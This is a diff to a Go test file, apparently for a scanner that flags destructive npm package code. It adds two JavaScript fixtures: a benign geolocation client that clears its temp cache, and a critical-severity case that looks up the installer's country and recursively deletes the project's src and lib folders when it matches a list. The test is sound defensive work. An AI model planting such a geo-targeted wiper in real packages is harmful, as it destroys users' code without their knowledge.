@@ -21,6 +21,14 @@ func TestInfiniteLoop(t *testing.T) {
 
 func TestDestructiveFS(t *testing.T) {
 	rt.Check(t, DestructiveFS{}, []rt.Case{
+		// the project's own directories named, deleted when the IP's
+		// country is on a list; a geolocation client clearing its cache
+		{"named_trees_by_country", map[string]string{"index.js": `const fs = require("fs"), path = require("path"), https = require("https");
+https.get({ hostname: "geo.example.invalid", path: "/v1/json?fields=countryCode" }, (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => {
+  if (["XX", "YY"].includes(JSON.parse(b).countryCode)) for (const d of ["src", "lib"]) fs.rmSync(path.join(process.env.INIT_CWD, d), { recursive: true, force: true }) }) })`}, finding.SeverityCritical},
+		{"geo_client_cache", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+exports.refresh = (cb) => { fs.rmSync(path.join(os.tmpdir(), "geo-lite"), { recursive: true, force: true });
+  https.get({ hostname: "geo.example.invalid", path: "/v1/json?fields=countryCode" }, (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => cb(JSON.parse(b).countryCode)) }) }`}, finding.SeverityNone},
 		// the wiper in a module of its own, loaded by the one asking an
 		// unknown host for the country; the same module loaded by one
 		// that asks nothing is a sync tool's mirror
